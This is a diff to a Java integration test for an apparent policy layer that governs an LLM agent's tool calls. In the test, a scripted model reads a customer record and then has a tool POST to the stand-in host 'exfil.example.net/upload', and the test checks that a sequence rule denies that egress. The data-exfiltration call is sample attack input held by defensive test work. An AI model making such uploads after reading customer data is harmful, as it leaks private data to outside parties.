@@ -15,6 +15,7 @@ import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.List;
+import org.junit.jupiter.api.Assumptions;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
@@ -25,7 +26,9 @@ import org.junit.jupiter.api.io.TempDir;
  * with {@code approvals=allow}); a rate limit blocks the third e-mail; the DESIGN.md egress and
  * exfiltration rules deny the tool's POST to an outside host after a customer read while the
  * model's own traffic ({@code parent: model}) still goes through. Evidence carries the session
- * (the chat memory id), the tool as {@code parent} of its SQL and HTTP, rule and outcome.
+ * (the chat memory id), the tool as {@code parent} of its SQL (run in a CompletableFuture async
+ * stage on a pool thread) and HTTP (on a thread, a virtual thread on JDK 25, started inside the
+ * tool), rule and outcome.
  */
 class ToolCallsIT {
     static final String POLICY = """
@@ -62,6 +65,10 @@ class ToolCallsIT {
     }
 
     private AgentRun.Result run(Script script, String approvals, Path evidence, ScriptedModelServer[] server) throws Exception {
+        return run(script, approvals, evidence, server, null);
+    }
+
+    private AgentRun.Result run(Script script, String approvals, Path evidence, ScriptedModelServer[] server, Path java) throws Exception {
         Path policy = Files.writeString(tmp.resolve("policy.yaml"), POLICY);
         ScriptedModelServer model = ScriptedModelServer.start(script);
         server[0] = model;
@@ -69,6 +76,9 @@ class ToolCallsIT {
                 .agent("policy=" + policy + ",agent=tools-it,evidence=" + evidence + ",approvals=" + approvals)
                 .main(ToolApp.class, model.baseUrl(), "session-42");
         run.classpath = toolsClasspath();
+        if (java != null) {
+            run.java = java;
+        }
         return run.run();
     }
 
@@ -79,6 +89,20 @@ class ToolCallsIT {
 
     @Test
     void toolsAreGovernedAndTheModelStillAnswers() throws Exception {
+        AgentRun.Result r = scenario(null);
+        assertEquals("false", r.value("http on a virtual thread"));
+    }
+
+    /** JDK 25: the same, with the upload on a virtual thread started inside the tool. */
+    @Test
+    void onJdk25WithAVirtualThread() throws Exception {
+        java.util.Optional<Path> jdk25 = AgentRun.jdk25();
+        Assumptions.assumeTrue(jdk25.isPresent(), "no JDK 25 under /usr/lib/jvm");
+        AgentRun.Result r = scenario(jdk25.get());
+        assertEquals("true", r.value("http on a virtual thread"));
+    }
+
+    private AgentRun.Result scenario(Path java) throws Exception {
         Script script = Script.builder()
                 .toolCalls(call("lookupCustomer", "{\"id\":\"c1\"}"))
                 .toolCalls(call("sendReport", "{\"url\":\"http://exfil.example.net/upload\"}"))
@@ -92,7 +116,7 @@ class ToolCallsIT {
         ScriptedModelServer[] server = new ScriptedModelServer[1];
         AgentRun.Result r;
         try {
-            r = run(script, "deny", evidence, server);
+            r = run(script, "deny", evidence, server, java);
         } finally {
             if (server[0] != null) {
                 server[0].close();
@@ -102,6 +126,7 @@ class ToolCallsIT {
         assertEquals(0, r.exit(), r::toString);
         assertEquals("done", r.value("answer"), r::toString);
         assertTrue(model.errors().isEmpty(), model.errors()::toString);
+        assertEquals("true", r.value("sql on another thread"));
 
         List<String> ran = r.lines().stream().filter(l -> l.startsWith("tool ran: ")).toList();
         assertEquals(List.of("tool ran: lookupCustomer c1", "tool ran: sendReport http://exfil.example.net/upload",
@@ -143,7 +168,7 @@ class ToolCallsIT {
         assertEquals("deny", exfil.decision, exfil.toString());
         assertEquals("sendReport", exfil.parent, exfil.toString());
         assertEquals("session-42", exfil.session, exfil.toString());
-        assertTrue(exfil.rules.contains("no-export-after-customer-read") || exfil.rules.contains("egress-allowlist"), exfil.toString());
+        assertTrue(exfil.rules.contains("no-export-after-customer-read"), "the sequence rule across threads: " + exfil);
 
         // the model's own traffic: parent model, allowed before and after the customer read
         List<EvidenceRecord> modelCalls = ev.decisions(d -> "http".equals(d.kind) && "model".equals(d.parent));
@@ -152,6 +177,7 @@ class ToolCallsIT {
             assertEquals("allow", d.decision, d.toString());
             assertEquals("session-42", d.session, d.toString());
         }
+        return r;
     }
 
     @Test
